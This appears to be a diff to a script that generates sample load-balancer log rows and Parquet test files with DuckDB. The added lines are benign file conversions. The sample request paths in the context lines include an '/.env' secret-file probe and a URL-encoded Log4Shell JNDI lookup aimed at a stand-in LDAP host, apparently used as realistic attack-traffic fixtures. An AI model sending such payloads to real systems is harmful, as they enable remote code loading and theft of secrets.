@@ -166,3 +166,6 @@ const requests = ['/', '/.env', '/?x=%24%7Bjndi:ldap://203.0.113.9/a%7D'].map((t
   target_ip: '10.0.0.1', target_port: 80, request_processing_time: 0.086, elb_status_code: 200, target_status_code: '200', received_bytes: 34, sent_bytes: 366, request_verb: 'GET',
   request_url: `https://www.example.com:443${target}`, request_proto: 'HTTP/1.1', user_agent: 'curl/7.46.0', ssl_protocol: 'TLSv1.2', domain_name: 'www.example.com' }))
 await duckdb('balancer', 'duckdb-gzip', select(requests).replace(/0\.086/g, '0.086::DOUBLE'), 'COMPRESSION gzip', requests)
+
+/* The second version of DuckDB's pages: differences between numbers, lengths of texts. */
+await duck.run(`COPY (SELECT * FROM '${path('flow', 'arrow-v1-snappy')}') TO '${path('flow', 'duckdb-v2-zstd')}' (FORMAT parquet, COMPRESSION zstd, PARQUET_VERSION v2)`)
